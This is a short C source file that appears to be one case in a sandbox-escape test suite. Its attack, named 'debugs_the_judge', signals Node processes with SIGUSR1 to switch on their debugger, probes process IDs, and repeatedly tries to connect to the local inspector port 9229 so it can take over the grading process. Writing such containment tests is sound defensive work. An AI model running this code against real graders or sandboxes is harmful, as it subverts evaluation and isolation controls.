// Tries: to make Node listen for a debugger (SIGUSR1), which then may execute anything in it.
// With: check, program
#include "attack.h"
#include <arpa/inet.h>

static void wake(int pid) {
  if (is_node(pid) && kill(pid, SIGUSR1) == 0) reached("signals %d, which is Node", pid);
}

ATTACK(debugs_the_judge) {
  for_each_other(wake);
  for (int pid = 1; pid < 64; pid++) syscall(SYS_tkill, pid, 0);
  for (int i = 0; i < 20; i++) {
    struct sockaddr_in inspector = {AF_INET, htons(9229), {htonl(INADDR_LOOPBACK)}, {0}};
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (connect(fd, (struct sockaddr *)&inspector, sizeof inspector) == 0) return reached("the debugger of the judge");
    close(fd);
    usleep(20000);
  }
}
